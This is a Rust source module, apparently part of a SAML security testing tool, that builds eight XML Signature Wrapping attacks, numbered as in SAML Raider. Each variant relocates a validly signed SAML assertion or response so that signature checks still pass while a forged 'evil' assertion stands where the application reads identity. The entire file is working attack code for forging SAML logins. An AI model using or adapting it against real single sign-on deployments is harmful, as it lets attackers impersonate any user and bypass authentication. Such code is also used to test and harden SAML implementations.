//! Signature wrapping: a signed element moves to where it is still verified, and a forged one stands where it is read
//! (Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be"; numbered as in SAML Raider).

use super::xml::{Element, Node};

const SIGNATURE: &str = "ds:Signature";
const ASSERTION: &str = "saml2:Assertion";

/// The answer `right`, which has one signature, wrapped in one of eight ways: around it stands the assertion `evil`, or
/// for 1 and 2 the response `around` that holds it.
pub(super) fn wrap(kind: u8, right: Element, evil: Element, around: Element) -> Element {
    if kind <= 2 {
        return wrapped_response(kind, &right, around);
    }
    let Some(signed) = right.only(ASSERTION).cloned() else {
        return right;
    };
    let bare = signed.without(SIGNATURE);
    let Some(signature) = signed.only(SIGNATURE).cloned() else {
        return right;
    };
    let rest = right.without(ASSERTION);
    match kind {
        3 => rest.child(evil).child(signed),
        4 => rest.child(evil.child(signed)),
        5 => rest.child(behind_issuer(evil, signature)).child(bare),
        6 => rest.child(behind_issuer(evil, signature.child(bare))),
        7 => {
            let extensions = Element::new("saml2p:Extensions").child(evil);
            behind_issuer(rest, extensions).child(signed)
        }
        _ => {
            let object = Element::new("ds:Object").child(bare);
            rest.child(behind_issuer(evil, signature.child(object)))
        }
    }
}

fn wrapped_response(kind: u8, right: &Element, around: Element) -> Element {
    let bare = right.without(SIGNATURE);
    let Some(signature) = right.only(SIGNATURE).cloned() else {
        return around;
    };
    if kind == 1 {
        behind_issuer(around, signature.child(bare))
    } else {
        behind_issuer(behind_issuer(around, signature), bare)
    }
}

/// Puts an element behind the first one.
fn behind_issuer(mut of: Element, new: Element) -> Element {
    let place = of.children.len().min(1);
    of.children.insert(place, Node::Element(new));
    of
}
